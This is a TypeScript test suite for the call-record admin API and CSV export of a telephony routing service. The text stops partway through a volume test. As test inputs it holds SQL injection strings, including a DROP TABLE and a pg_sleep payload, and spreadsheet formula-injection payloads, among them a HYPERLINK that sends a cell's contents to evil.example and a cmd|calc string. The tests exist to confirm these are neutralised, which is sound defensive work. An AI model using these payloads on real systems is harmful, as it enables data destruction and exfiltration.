import t from 'tap';
import type { AddressInfo } from 'node:net';
import pg from 'pg';
import { Prisma } from '../../../src/generated/prisma/client.js';
import { ADMIN_KEY, buildTestApp } from '../../helper.js';

const T0 = Date.parse('2026-11-20T10:00:00.000Z');
const at = (seconds: number) => new Date(T0 + seconds * 1000);

const CALLER_1 = '+919812345001';
const CALLER_2 = '+919812345002';
const CALLER_3 = '+919812345003';
const EXOPHONE = '+918047112233';
const AGENT = '+919800000011';
const TRICKY_BODY = 'He said "hi", then\nleft; C:\\path';

interface Fixture {
  label: string;
  seconds: number;
  endpoint: string;
  flowSlug: string | null;
  callSid: string | null;
  callFrom?: string | null;
  callTo?: string | null;
  dialWhomNumber?: string | null;
  dialCallStatus?: string | null;
  digits?: string | null;
  outcome: string;
  reason?: string | null;
  httpStatus?: number;
  responseBody?: string | null;
  attempt?: number;
  legs?: unknown;
  decision?: unknown;
}

// Four calls across three flows and every endpoint, plus rejected callbacks, in the order they are
// stored (ids grow down the list). The last one was received at 120 s, like c3-passthru, but stored
// last, as a CDR replayed from an instance's spool is: lists order it by its time, then by id.
const FIXTURES: Fixture[] = [
  {
    label: 'c1-passthru',
    seconds: 0,
    endpoint: 'passthru',
    flowSlug: 'inbound',
    callSid: 'ca-1',
    callFrom: CALLER_1,
    callTo: EXOPHONE,
    outcome: 'answered',
    responseBody: '',
  },
  {
    label: 'c1-switch',
    seconds: 30,
    endpoint: 'switch',
    flowSlug: 'menu',
    callSid: 'ca-1',
    callFrom: CALLER_1,
    callTo: EXOPHONE,
    digits: '2',
    outcome: 'answered',
    responseBody: '{"select":"sales"}',
  },
  {
    label: 'c2-connect',
    seconds: 60,
    endpoint: 'connect',
    flowSlug: 'sales',
    callSid: 'ca-2',
    callFrom: CALLER_2,
    callTo: EXOPHONE,
    outcome: 'answered',
    responseBody: '{"fetch_after_attempt":true}',
  },
  {
    label: 'c2-dial-whom',
    seconds: 65,
    endpoint: 'dial-whom',
    flowSlug: 'sales',
    callSid: 'ca-2',
    callFrom: CALLER_2,
    callTo: EXOPHONE,
    dialWhomNumber: AGENT,
    dialCallStatus: 'no-answer',
    attempt: 2,
    outcome: 'answered',
    responseBody: '+919811000022',
    legs: [{ Number: AGENT, Type: 'single', CauseCode: 'NO_ANSWER', Cause: '19', OnCallDuration: 0 }],
  },
  { label: 'c2-dial-event', seconds: 70, endpoint: 'dial-events', flowSlug: null, callSid: 'ca-2', dialWhomNumber: AGENT, outcome: 'logged' },
  {
    label: 'c3-passthru',
    seconds: 120,
    endpoint: 'passthru',
    flowSlug: 'inbound',
    callSid: 'ca-3',
    callFrom: CALLER_3,
    callTo: EXOPHONE,
    outcome: 'on-error',
    reason: 'decision budget exceeded',
    responseBody: '',
  },
  {
    label: 'c3-dial-whom',
    seconds: 130,
    endpoint: 'dial-whom',
    flowSlug: 'sales',
    callSid: 'ca-3',
    callFrom: CALLER_3,
    callTo: EXOPHONE,
    dialWhomNumber: CALLER_1,
    dialCallStatus: 'busy',
    attempt: 2,
    outcome: 'answered',
    responseBody: '',
  },
  {
    label: 'no-callsid',
    seconds: 140,
    endpoint: 'passthru',
    flowSlug: 'inbound',
    callSid: null,
    callFrom: CALLER_2,
    callTo: EXOPHONE,
    outcome: 'rejected',
    reason: 'missing CallSid',
    httpStatus: 400,
  },
  {
    label: 'unknown-flow',
    seconds: 150,
    endpoint: 'passthru',
    flowSlug: 'nope',
    callSid: 'ca-5',
    callFrom: CALLER_3,
    callTo: EXOPHONE,
    outcome: 'rejected',
    reason: 'unknown flow',
    httpStatus: 404,
  },
  {
    label: 'c4-connect',
    seconds: 200,
    endpoint: 'connect',
    flowSlug: 'sales',
    callSid: "o'hara-4",
    callFrom: CALLER_2,
    callTo: EXOPHONE,
    outcome: 'answered',
    reason: 'sticky, then round_robin',
    responseBody: TRICKY_BODY,
    decision: { dialGroup: 'sales', numbers: [AGENT], trace: [{ rule: 'vip', result: 'matched' }] },
  },
  {
    label: 'c3-switch-spooled',
    seconds: 120,
    endpoint: 'switch',
    flowSlug: 'menu',
    callSid: 'ca-3',
    callFrom: CALLER_3,
    callTo: EXOPHONE,
    digits: '1',
    outcome: 'answered',
    responseBody: '{"select":"support"}',
  },
];

type Answer = { id: string; [k: string]: unknown };

t.test('admin CDRs', async (t) => {
  const { app, admin, db } = await buildTestApp(t);

  const idOf = new Map<string, string>();
  const labelOf = new Map<string, string>();
  for (const f of FIXTURES) {
    const row = await db.prisma.cdr.create({
      data: {
        receivedAt: at(f.seconds),
        endpoint: f.endpoint,
        flowSlug: f.flowSlug,
        callSid: f.callSid,
        callFrom: f.callFrom ?? null,
        callFromRaw: f.callFrom ? `0${f.callFrom.slice(3)}` : null,
        callTo: f.callTo ?? null,
        callToRaw: f.callTo ? `0${f.callTo.slice(3)}` : null,
        direction: f.endpoint === 'dial-events' ? null : 'incoming',
        callStatus: 'in-progress',
        callType: 'call-attempt',
        digits: f.digits ?? null,
        dialCallStatus: f.dialCallStatus ?? null,
        dialWhomNumber: f.dialWhomNumber ?? null,
        legs: f.legs === undefined ? Prisma.DbNull : (f.legs as Prisma.InputJsonValue),
        params: { CallSid: f.callSid, CallFrom: f.callFrom ?? '', digits: f.digits ? `"${f.digits}"` : '' },
        decision: f.decision === undefined ? Prisma.DbNull : (f.decision as Prisma.InputJsonValue),
        matchedRule: f.decision ? 'vip' : null,
        outcome: f.outcome,
        reason: f.reason ?? null,
        httpStatus: f.httpStatus ?? 200,
        responseBody: f.responseBody ?? null,
        handlingMs: 3.25,
        attempt: f.attempt ?? 1,
        idempotencyKey: `key-${f.label}`,
      },
    });
    idOf.set(f.label, row.id.toString());
    labelOf.set(row.id.toString(), f.label);
  }

  const labels = (items: Answer[]) => items.map((i) => labelOf.get(i.id) ?? `?${i.id}`);
  /**
   * What a filter must select, worked out here independently of the SQL: matching fixtures, newest
   * first (latest received first; of two received at once, the one stored later).
   */
  const expected = (match: (f: Fixture) => boolean) =>
    FIXTURES.map((f, stored) => ({ f, stored }))
      .filter(({ f }) => match(f))
      .sort((a, b) => b.f.seconds - a.f.seconds || b.stored - a.stored)
      .map(({ f }) => f.label);
  const list = async (query: string) => {
    const res = await admin({ method: 'GET', url: `/admin/cdrs${query ? `?${query}` : ''}` });
    t.equal(res.statusCode, 200, `GET /admin/cdrs?${query}: ${res.body.slice(0, 200)}`);
    return res.json() as { items: Answer[]; nextCursor: string | null };
  };
  const hasNumber = (n: string) => (f: Fixture) => f.callFrom === n || f.callTo === n || f.dialWhomNumber === n;

  const FILTER_CASES: Array<[string, (f: Fixture) => boolean]> = [
    ['callSid=ca-2', (f) => f.callSid === 'ca-2'],
    ['flow=sales', (f) => f.flowSlug === 'sales'],
    ['endpoint=dial-whom', (f) => f.endpoint === 'dial-whom'],
    ['endpoint=dial-events', (f) => f.endpoint === 'dial-events'],
    ['outcome=rejected', (f) => f.outcome === 'rejected'],
    [`number=${encodeURIComponent(CALLER_1)}`, hasNumber(CALLER_1)],
    [`from=${encodeURIComponent(at(65).toISOString())}`, (f) => f.seconds >= 65],
    [`to=${encodeURIComponent(at(65).toISOString())}`, (f) => f.seconds < 65],
    ['flow=sales&endpoint=dial-whom&number=09800000011', (f) => f.flowSlug === 'sales' && f.endpoint === 'dial-whom' && hasNumber(AGENT)(f)],
    ['callSid=ca-2&endpoint=dial-events', (f) => f.callSid === 'ca-2' && f.endpoint === 'dial-events'],
    [
      `flow=inbound&from=${encodeURIComponent(at(1).toISOString())}&to=${encodeURIComponent(at(150).toISOString())}&outcome=rejected`,
      (f) => f.flowSlug === 'inbound' && f.seconds >= 1 && f.seconds < 150 && f.outcome === 'rejected',
    ],
    ['flow=menu&endpoint=passthru', () => false],
  ];

  t.test('without filters the list holds every CDR, newest first by received time, then by id', async (t) => {
    const body = await list('');
    t.same(
      labels(body.items),
      expected(() => true),
    );
    const at120 = labels(body.items).filter((l) => l === 'c3-passthru' || l === 'c3-switch-spooled');
    t.same(at120, ['c3-switch-spooled', 'c3-passthru'], 'received at the same time: the later stored first');
    t.ok(labels(body.items).indexOf('c3-switch-spooled') > labels(body.items).indexOf('c3-dial-whom'), 'stored last, but received before c3-dial-whom');
    t.equal(body.nextCursor, null);
  });

  t.test('each filter alone, and several combined with AND, select exactly the matching CDRs', async (t) => {
    for (const [query, match] of FILTER_CASES) {
      t.same(labels((await list(query)).items), expected(match), query);
    }
    t.ok(
      FILTER_CASES.every(([, m]) => FIXTURES.some((f) => !m(f))),
      'every case excludes something',
    );
  });

  t.test('number matches caller, called number or dialed agent, written national, with 91 or with +91', async (t) => {
    for (const form of ['09812345001', '919812345001', '+919812345001', '98123 45001']) {
      const got = labels((await list(`number=${encodeURIComponent(form)}`)).items);
      t.same(got, ['c3-dial-whom', 'c1-switch', 'c1-passthru'], `${form}: as caller in call 1 and as dialed agent in call 3`);
    }
    t.same(labels((await list('number=08047112233')).items), expected(hasNumber(EXOPHONE)), 'the called ExoPhone');
    t.same(labels((await list('number=09800000011')).items), ['c2-dial-event', 'c2-dial-whom'], 'an agent only dialed');
  });

  t.test('an invalid number is 400 naming querystring/number, in the list and the CSV', async (t) => {
    for (const url of ['/admin/cdrs?number=12345', '/admin/cdrs.csv?number=abc']) {
      const res = await admin({ method: 'GET', url });
      t.equal(res.statusCode, 400, url);
      t.match(res.json().message, /^querystring\/number: /, url);
    }
  });

  t.test('from is inclusive and to exclusive, at millisecond precision and in any offset', async (t) => {
    const q = (from: string, to: string) => list(`from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`);
    t.same(labels((await q(at(60).toISOString(), at(70).toISOString())).items), ['c2-dial-whom', 'c2-connect']);
    t.same(labels((await q(new Date(T0 + 60_001).toISOString(), new Date(T0 + 70_001).toISOString())).items), ['c2-dial-event', 'c2-dial-whom']);
    t.same(labels((await q('2026-11-20T15:31:00+05:30', '2026-11-20T15:31:05.001+05:30')).items), ['c2-dial-whom', 'c2-connect'], 'IST offset');
    t.same((await q(at(65).toISOString(), at(65).toISOString())).items, [], 'an empty range is empty');
  });

  t.test('bad time filters are 400 naming the field', async (t) => {
    const reversed = await admin({ method: 'GET', url: `/admin/cdrs?from=${at(10).toISOString()}&to=${at(0).toISOString()}` });
    t.equal(reversed.statusCode, 400);
    t.match(reversed.json().message, /^querystring\/to: /);
    const local = await admin({ method: 'GET', url: '/admin/cdrs?from=2026-11-20T10:00:00' });
    t.equal(local.statusCode, 400, 'a time without offset is ambiguous');
    t.match(local.json().message, /^querystring\/from: /);
  });

  t.test('paging walks every row exactly once in the list order, with and without filters', async (t) => {
    const range = `from=${encodeURIComponent(at(30).toISOString())}&to=${encodeURIComponent(at(150).toISOString())}`;
    const cases: Array<[string, (f: Fixture) => boolean]> = [
      ['', () => true],
      ['flow=sales', (f) => f.flowSlug === 'sales'],
      [range, (f) => f.seconds >= 30 && f.seconds < 150],
      [`flow=inbound&${range}`, (f) => f.flowSlug === 'inbound' && f.seconds >= 30 && f.seconds < 150],
    ];
    for (const [filter, match] of cases) {
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const body = await list(`limit=2${filter ? `&${filter}` : ''}${cursor ? `&cursor=${cursor}` : ''}`);
        t.ok(body.items.length <= 2);
        seen.push(...body.items.map((i) => i.id));
        cursor = body.nextCursor;
        if (cursor) t.equal(cursor, body.items[body.items.length - 1]!.id, 'the cursor is the last id of the page');
        pages++;
      } while (cursor && pages < 20);
      t.same(labels(seen.map((id) => ({ id }))), expected(match), filter || 'no filter');
    }
    const exact = await list(`limit=${FIXTURES.length}`);
    t.equal(exact.nextCursor, null, 'a page that takes the last row says there is no next page');
  });

  t.test('limit outside 1–1000, a non-numeric cursor and unknown query fields are 400 naming the field', async (t) => {
    for (const [query, field] of [
      ['limit=0', 'limit'],
      ['limit=1001', 'limit'],
      ['cursor=abc', 'cursor'],
      ['page=2', 'page'],
      ['endpoint=voicemail', 'endpoint'],
      ['flow=Sales', 'flow'],
    ] as const) {
      const res = await admin({ method: 'GET', url: `/admin/cdrs?${query}` });
      t.equal(res.statusCode, 400, query);
      t.match(res.json().message, `querystring/${field}`, query);
    }
    const unknown = await admin({ method: 'GET', url: '/admin/cdrs?page=2' });
    t.match(unknown.json().message, /^querystring\/page: unknown field; remove it \(the fields here are .*cursor/);
  });

  t.test('a cursor that names no CDR (deleted by retention, with everything older) ends the paging', async (t) => {
    for (const cursor of ['987654321', '9999999999999999999']) {
      t.same(await list(`cursor=${cursor}`), { items: [], nextCursor: null }, cursor);
    }
    t.equal((await admin({ method: 'GET', url: '/admin/cdrs/9999999999999999999' })).statusCode, 404, 'an id beyond bigint is 404, not 500');
  });

  t.test('one CDR by id carries every field, with params, legs and decision as JSON', async (t) => {
    const res = await admin({ method: 'GET', url: `/admin/cdrs/${idOf.get('c2-dial-whom')}` });
    t.equal(res.statusCode, 200);
    const cdr = res.json();
    t.same(cdr, {
      id: idOf.get('c2-dial-whom'),
      receivedAt: at(65).toISOString(),
      endpoint: 'dial-whom',
      flowSlug: 'sales',
      callSid: 'ca-2',
      callFrom: CALLER_2,
      callFromRaw: '09812345002',
      callTo: EXOPHONE,
      callToRaw: '08047112233',
      direction: 'incoming',
      callStatus: 'in-progress',
      callType: 'call-attempt',
      digits: null,
      customField: null,
      dialCallStatus: 'no-answer',
      dialWhomNumber: AGENT,
      legs: [{ Number: AGENT, Type: 'single', CauseCode: 'NO_ANSWER', Cause: '19', OnCallDuration: 0 }],
      params: { CallSid: 'ca-2', CallFrom: CALLER_2, digits: '' },
      decision: null,
      matchedRule: null,
      outcome: 'answered',
      reason: null,
      httpStatus: 200,
      responseBody: '+919811000022',
      handlingMs: 3.25,
      attempt: 2,
    });
    const withDecision = (await admin({ method: 'GET', url: `/admin/cdrs/${idOf.get('c4-connect')}` })).json();
    t.same(withDecision.decision, FIXTURES.find((f) => f.label === 'c4-connect')!.decision);
    t.equal(withDecision.responseBody, TRICKY_BODY);
  });

  t.test('an unknown id is 404 and a non-numeric one 400 naming params/id', async (t) => {
    const missing = await admin({ method: 'GET', url: '/admin/cdrs/987654321' });
    t.equal(missing.statusCode, 404);
    t.match(missing.json().message, /987654321/);
    const bad = await admin({ method: 'GET', url: '/admin/cdrs/abc' });
    t.equal(bad.statusCode, 400);
    t.match(bad.json().message, /^params\/id/);
  });

  t.test('a call timeline lists every callback of the CallSid, oldest first (by received time, then by id)', async (t) => {
    const res = await admin({ method: 'GET', url: '/admin/calls/ca-2' });
    t.equal(res.statusCode, 200);
    const body = res.json();
    t.equal(body.callSid, 'ca-2');
    t.same(labels(body.callbacks), ['c2-connect', 'c2-dial-whom', 'c2-dial-event']);
    t.same(body.callbacks[1].legs[0].CauseCode, 'NO_ANSWER');
    const call3 = (await admin({ method: 'GET', url: '/admin/calls/ca-3' })).json();
    t.same(labels(call3.callbacks), ['c3-passthru', 'c3-switch-spooled', 'c3-dial-whom'], 'a callback stored late sits at its time');
    const quoted = await admin({ method: 'GET', url: `/admin/calls/${encodeURIComponent("o'hara-4")}` });
    t.same(labels(quoted.json().callbacks), ['c4-connect'], 'a CallSid with a quote is data');
  });

  t.test('a timeline of an unknown CallSid is 404', async (t) => {
    const res = await admin({ method: 'GET', url: '/admin/calls/ca-404' });
    t.equal(res.statusCode, 404);
    t.match(res.json().message, /ca-404/);
  });

  t.test('control characters in a CallSid filter are 400, not a database error', async (t) => {
    for (const url of ['/admin/cdrs?callSid=%00', '/admin/cdrs.csv?callSid=a%00b', '/admin/calls/a%01b']) {
      const res = await admin({ method: 'GET', url });
      t.equal(res.statusCode, 400, url);
    }
  });

  t.test('the CSV is text/csv, an attachment, a header row and every CDR newest first', async (t) => {
    const res = await admin({ method: 'GET', url: '/admin/cdrs.csv' });
    t.equal(res.statusCode, 200);
    t.match(res.headers['content-type'], /^text\/csv/);
    t.equal(res.headers['content-disposition'], 'attachment; filename="cdrs.csv"');
    const rows = parseCsv(res.body);
    t.same(rows[0], [
      'id',
      'received_at',
      'endpoint',
      'flow_slug',
      'call_sid',
      'call_from',
      'call_to',
      'direction',
      'digits',
      'dial_call_status',
      'dial_whom_number',
      'outcome',
      'matched_rule',
      'reason',
      'http_status',
      'response_body',
      'handling_ms',
      'attempt',
      'legs',
      'params',
      'call_status',
      'call_type',
      'custom_field',
    ]);
    t.equal(rows.length - 1, FIXTURES.length);
    t.same(
      rows.slice(1).map((r) => labelOf.get(r[0]!)),
      expected(() => true),
    );
    const byLabel = (label: string) => rows.find((r) => r[0] === idOf.get(label))!;
    const dial = byLabel('c2-dial-whom');
    t.same(dial.slice(1, 8), [at(65).toISOString(), 'dial-whom', 'sales', 'ca-2', CALLER_2, EXOPHONE, 'incoming']);
    t.same(JSON.parse(dial[18]!), [{ Number: AGENT, Type: 'single', CauseCode: 'NO_ANSWER', Cause: '19', OnCallDuration: 0 }], 'legs as JSON');
    t.same(JSON.parse(dial[19]!).CallSid, 'ca-2', 'params as JSON');
  });

  t.test('CSV fields with commas, quotes, backslashes and newlines are quoted per RFC 4180', async (t) => {
    const res = await admin({ method: 'GET', url: `/admin/cdrs.csv?callSid=${encodeURIComponent("o'hara-4")}` });
    t.ok(res.body.includes('"He said ""hi"", then\nleft; C:\\path"'), 'exact quoted text');
    t.ok(res.body.includes('"sticky, then round_robin"'));
    const rows = parseCsv(res.body);
    t.equal(rows.length, 2);
    t.equal(rows[1]![4], "o'hara-4");
    t.equal(rows[1]![15], TRICKY_BODY, 'the value parses back unchanged');
  });

  t.test('the CSV applies every filter exactly as the list does', async (t) => {
    for (const [query, match] of FILTER_CASES) {
      const res = await admin({ method: 'GET', url: `/admin/cdrs.csv?${query}` });
      t.equal(res.statusCode, 200, query);
      const ids = parseCsv(res.body)
        .slice(1)
        .map((r) => r[0]!);
      t.same(
        ids.map((id) => labelOf.get(id)),
        expected(match),
        query,
      );
      t.same(
        ids,
        (await list(`${query}&limit=1000`)).items.map((i) => i.id),
        `${query}: same rows as the list`,
      );
    }
  });

  t.test('an outcome filter exoroute never writes is 400 naming the four it does, not an empty list', async (t) => {
    // `outcome=error` or `outcome=failed` answered no CDRs, as if no callback had failed.
    for (const url of ['/admin/cdrs?outcome=error', '/admin/cdrs.csv?outcome=failed', '/admin/cdrs?outcome=Rejected']) {
      const res = await admin({ method: 'GET', url });
      t.equal(res.statusCode, 400, url);
      t.match(res.json().message, /^querystring\/outcome.*answered.*async.*on-error.*rejected/, url);
    }
    for (const outcome of ['answered', 'async', 'on-error', 'rejected'])
      t.equal((await admin({ method: 'GET', url: `/admin/cdrs?outcome=${outcome}` })).statusCode, 200, outcome);
  });

  t.test('HEAD on the CSV does not start an export', async (t) => {
    const head = await admin({ method: 'HEAD', url: '/admin/cdrs.csv' });
    t.equal(head.statusCode, 405, 'no HEAD twin: 405, as for any method the path does not take');
    t.equal(head.headers.allow, 'GET');
  });

  t.test('the CSV refuses paging and unknown fields', async (t) => {
    for (const query of ['limit=10', 'cursor=5', 'format=json']) {
      const res = await admin({ method: 'GET', url: `/admin/cdrs.csv?${query}` });
      t.equal(res.statusCode, 400, query);
      t.match(res.json().message, /unknown field/);
    }
  });

  t.test('quotes in CSV filter values are data, never SQL', async (t) => {
    const slug = await admin({ method: 'GET', url: `/admin/cdrs.csv?flow=${encodeURIComponent("o'brien")}` });
    t.equal(slug.statusCode, 400, 'a flow filter must be a slug');
    t.match(slug.json().message, /^querystring\/flow/);
    for (const value of ["x'; DROP TABLE cdrs; --", "x\\'; SELECT pg_sleep(5); --", '"; --']) {
      const res = await admin({ method: 'GET', url: `/admin/cdrs.csv?callSid=${encodeURIComponent(value)}` });
      t.equal(res.statusCode, 200, value);
      t.same(parseCsv(res.body).length, 1, `${value}: header only`);
    }
    t.equal(await db.prisma.cdr.count(), FIXTURES.length, 'the table and its rows are still there');
    const quoted = await admin({ method: 'GET', url: `/admin/cdrs.csv?callSid=${encodeURIComponent("o'hara-4")}` });
    t.same(
      parseCsv(quoted.body)
        .slice(1)
        .map((r) => labelOf.get(r[0]!)),
      ['c4-connect'],
      'a value with a quote still matches its row',
    );
  });

  t.test('a viewer key reads the list, one CDR, a timeline and the CSV', async (t) => {
    const created = await admin({ method: 'POST', url: '/admin/api-keys', payload: { name: 'support desk', role: 'viewer' } });
    t.equal(created.statusCode, 201);
    const headers = { authorization: `Bearer ${created.json().key}` };
    for (const url of ['/admin/cdrs', `/admin/cdrs/${idOf.get('c1-passthru')}`, '/admin/calls/ca-1', '/admin/cdrs.csv']) {
      const res = await app.inject({ method: 'GET', url, headers });
      t.equal(res.statusCode, 200, url);
    }
  });

  t.test('every CDR route needs a key', async (t) => {
    for (const url of ['/admin/cdrs', '/admin/cdrs/1', '/admin/calls/ca-1', '/admin/cdrs.csv']) {
      t.equal((await app.inject({ method: 'GET', url })).statusCode, 401, url);
    }
    t.ok(ADMIN_KEY);
  });
});

t.test('number= with a + typed unencoded (read as a space) finds the international number, not an Indian one with its digits', async (t) => {
  const { app, admin } = await buildTestApp(t);
  // A Singapore caller (+65 9123 4567) and an Indian one whose national number has the same digits (+91 65912 34567).
  const callers = { singapore: '%2B6591234567', india: '06591234567', us: '%2B14155552671' };
  for (const [sid, from] of Object.entries(callers)) {
    t.equal((await app.inject({ method: 'GET', url: `/exotel/passthru/nope?CallSid=${sid}&CallFrom=${from}` })).statusCode, 404, `${sid}: its CDR is stored`);
  }
  const sids = async (url: string) => {
    const res = await admin({ method: 'GET', url });
    t.equal(res.statusCode, 200, `${url}: ${res.body.slice(0, 200)}`);
    return url.startsWith('/admin/cdrs.csv')
      ? parseCsv(res.body)
          .slice(1)
          .map((row) => row[4])
      : res.json().items.map((i: Answer) => i.callSid);
  };
  // As curl sends `?number=+6591234567`: the query string reads its + as a space.
  t.same(await sids('/admin/cdrs?number=+6591234567'), ['singapore'], 'the Singapore caller, not +916591234567');
  t.same(await sids('/admin/cdrs.csv?number=+6591234567'), ['singapore'], 'the CSV alike');
  t.same(await sids('/admin/cdrs?number=+14155552671'), ['us'], 'a US caller, not +9114155552671');
  t.same(await sids('/admin/cdrs?number=%2B6591234567'), ['singapore'], 'encoded as %2B');
  t.same(await sids('/admin/cdrs?number=06591234567'), ['india'], 'the Indian number in national form');
  t.same(await sids('/admin/cdrs?number=+916591234567'), ['india'], 'the Indian number in E.164 with its + unencoded');
});

t.test('a CallSid as long as callbacks take (200 characters) is found by the filter and the timeline; a longer one is a 400', async (t) => {
  const { app, admin } = await buildTestApp(t);
  const sid = `long-${'x'.repeat(195)}`;
  t.equal((await app.inject({ method: 'GET', url: `/exotel/passthru/nope?CallSid=${sid}&CallFrom=09812345678` })).statusCode, 404, 'its CDR is stored');
  const list = await admin({ method: 'GET', url: `/admin/cdrs?callSid=${sid}` });
  t.equal(list.statusCode, 200, list.body);
  t.equal(list.json().items.length, 1);
  const timeline = await admin({ method: 'GET', url: `/admin/calls/${sid}` });
  t.equal(timeline.statusCode, 200, timeline.body);
  t.equal(timeline.json().callbacks.length, 1);
  t.equal((await admin({ method: 'GET', url: `/admin/calls/${sid}y` })).statusCode, 400, '201 characters: no callback has it');
});

t.test('endpoint=unknown finds the callbacks to a path under /exotel that names no endpoint, whose CDRs say unknown', async (t) => {
  // Exotel given `/exotel/passthrough/…`: every call takes the applet's error path, and each leaves a CDR with the
  // endpoint `unknown`. Support asking for them by endpoint got a 400 listing five endpoints, as if no CDR could say so.
  const { app, admin } = await buildTestApp(t);
  const callbacks = { typo: '/exotel/passthrough/inbound', known: '/exotel/passthru/inbound' };
  for (const [sid, path] of Object.entries(callbacks)) {
    t.equal((await app.inject({ method: 'GET', url: `${path}?CallSid=${sid}&CallFrom=09812345678` })).statusCode, 404, `${sid}: its CDR is stored`);
  }
  const sids = async (url: string) => {
    const res = await admin({ method: 'GET', url });
    t.equal(res.statusCode, 200, `${url}: ${res.body.slice(0, 200)}`);
    return url.startsWith('/admin/cdrs.csv')
      ? parseCsv(res.body)
          .slice(1)
          .map((row) => row[4])
      : res.json().items.map((i: Answer) => i.callSid);
  };
  t.same(await sids('/admin/cdrs?endpoint=unknown'), ['typo'], 'the callback to a path that is no endpoint');
  t.same(await sids('/admin/cdrs.csv?endpoint=unknown'), ['typo'], 'the CSV alike');
  t.same(await sids('/admin/cdrs?endpoint=passthru'), ['known'], 'a known endpoint as before');
  const res = await admin({ method: 'GET', url: '/admin/cdrs?endpoint=nosuch' });
  t.equal(res.statusCode, 400);
  t.match(res.json().message, /^querystring\/endpoint: .*dial-events.*unknown/, 'the 400 names unknown among the values');
});

t.test('the CSV neutralises spreadsheet formulas in caller-controlled cells', async (t) => {
  const SECRET = 'sekret-sekret-sekret-123';
  const { app, admin, db } = await buildTestApp(t, { EXOTEL_CALLBACK_SECRET: SECRET });
  const csvRows = async (query: string) => {
    const res = await admin({ method: 'GET', url: `/admin/cdrs.csv?${query}` });
    t.equal(res.statusCode, 200, query);
    const [header, ...rows] = parseCsv(res.body);
    return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
  };
  const TEXT_COLUMNS = [
    'endpoint',
    'flow_slug',
    'call_sid',
    'call_from',
    'call_to',
    'direction',
    'digits',
    'dial_call_status',
    'dial_whom_number',
    'outcome',
    'matched_rule',
    'reason',
    'response_body',
  ];
  // written by callers (and a rule's name by admins): guarded; the others are exoroute's own words,
  // parsed E.164 numbers and the JSON it serialises, which cannot begin with a formula
  const GUARDED = ['flow_slug', 'call_sid', 'direction', 'digits', 'dial_call_status', 'dial_whom_number', 'matched_rule', 'reason', 'response_body'];
  const insert = (values: Record<string, string>) =>
    db.pool.query(
      `INSERT INTO cdrs (${TEXT_COLUMNS.join(', ')}, legs, params, http_status, handling_ms, idempotency_key)
       VALUES (${TEXT_COLUMNS.map((_, i) => `$${i + 1}`).join(', ')}, $14::json, $15::json, 200, 1.5, $3)`,
      [...TEXT_COLUMNS.map((c) => values[c]!), values.legs!, values.params!],
    );

  t.test('a refused callback cannot plant a formula in the export', async (t) => {
    const sid = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")';
    const query = `token=wrong&CallSid=${encodeURIComponent(sid)}&Direction=${encodeURIComponent('@SUM(1+1)')}&digits=${encodeURIComponent('"=1+1"')}`;
    const cb = await app.inject({ method: 'GET', url: `/exotel/passthru/inbound?${query}` });
    t.equal(cb.statusCode, 401, 'the callback is refused (wrong secret) but leaves a CDR');
    const [row, ...more] = await csvRows(`callSid=${encodeURIComponent(sid)}`);
    t.equal(more.length, 0);
    t.equal(row?.call_sid, `'${sid}`, 'the CallSid is text, quoted with a leading apostrophe');
    t.equal(row?.direction, "'@sum(1+1)", 'Direction (stored lower-cased) too');
    t.equal(row?.digits, "'=1+1", 'and the digits (stored without their quotes)');
  });

  t.test('every text column a caller writes gets a leading apostrophe before =, +, -, @, tab or carriage return', async (t) => {
    const starts = ['=1+1', '+1+cmd|calc', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '+', '-1.', '+91 98123 45678'];
    const values: Record<string, string> = Object.fromEntries(TEXT_COLUMNS.map((c, i) => [c, `${starts[i % starts.length]!}#${c}`]));
    values.call_sid = '=formula-row';
    values.legs = '["=1+1"]';
    values.params = '{"CallSid":"=formula-row"}';
    await insert(values);
    const [row] = await csvRows('callSid=%3Dformula-row');
    for (const column of GUARDED) t.equal(row?.[column], `'${values[column]}`, column);
    for (const column of ['legs', 'params']) t.equal(row?.[column], values[column], `${column}: JSON as exoroute writes it, as stored`);
  });

  t.test('plain numbers, such as E.164 numbers, and other text stay as stored', async (t) => {
    const values: Record<string, string> = Object.fromEntries(TEXT_COLUMNS.map((c) => [c, `plain ${c} =1+1`]));
    Object.assign(values, {
      call_sid: 'numbers-row',
      call_from: '+919812345678',
      call_to: '-5',
      digits: '42',
      dial_whom_number: '+919800000011',
      response_body: '-12.50',
      reason: '+3.25',
      legs: '-5',
      params: '{"CallFrom":"=1+1"}',
    });
    await insert(values);
    const [row] = await csvRows('callSid=numbers-row');
    for (const column of [...TEXT_COLUMNS, 'legs', 'params']) t.equal(row?.[column], values[column], column);
  });
});

t.test("the CSV has Exotel's CallStatus, CallType and CustomField as its last columns, after every earlier one", async (t) => {
  const { app, admin } = await buildTestApp(t);
  // No flow: each callback is a 404 that leaves its CDR, with every parameter parsed.
  const query = new URLSearchParams({
    CallSid: 'csv-status-1',
    CallFrom: '09812345678',
    CallStatus: 'in-progress',
    CallType: 'completed',
    CustomField: 'order-4711',
  });
  t.equal((await app.inject({ method: 'GET', url: `/exotel/passthru/inbound?${query}` })).statusCode, 404);
  const planted = new URLSearchParams({ CallSid: 'csv-status-2', CustomField: '=HYPERLINK("http://evil.example")' });
  t.equal((await app.inject({ method: 'GET', url: `/exotel/passthru/inbound?${planted}` })).statusCode, 404);
  const res = await admin({ method: 'GET', url: '/admin/cdrs.csv' });
  t.equal(res.statusCode, 200);
  const [header, ...rows] = parseCsv(res.body);
  t.same(header!.slice(-4), ['params', 'call_status', 'call_type', 'custom_field'], 'the three come last, after params');
  t.equal(header!.indexOf('params'), 19, 'every earlier column keeps its position');
  const row = (sid: string) => Object.fromEntries(header!.map((name, i) => [name, rows.find((r) => r[4] === sid)![i]!]));
  t.match(row('csv-status-1'), { call_status: 'in-progress', call_type: 'completed', custom_field: 'order-4711' });
  t.match(row('csv-status-2'), { call_status: '', call_type: '', custom_field: '\'=HYPERLINK("http://evil.example")' }, 'a formula in CustomField is text');
});

t.test('CSV export at volume', async (t) => {
  const { app, db } = await buildTestApp(t);
  const ROWS = 200_000;
  await db.pool.query(`
    INSERT INTO cdrs (received_at, endpoint, flow_slug, call_sid, call_from, call_from_raw, call_to, call_to_raw, direction,
                      params, outcome, http_status, response_body, handling_ms, attempt, idempotency_key)
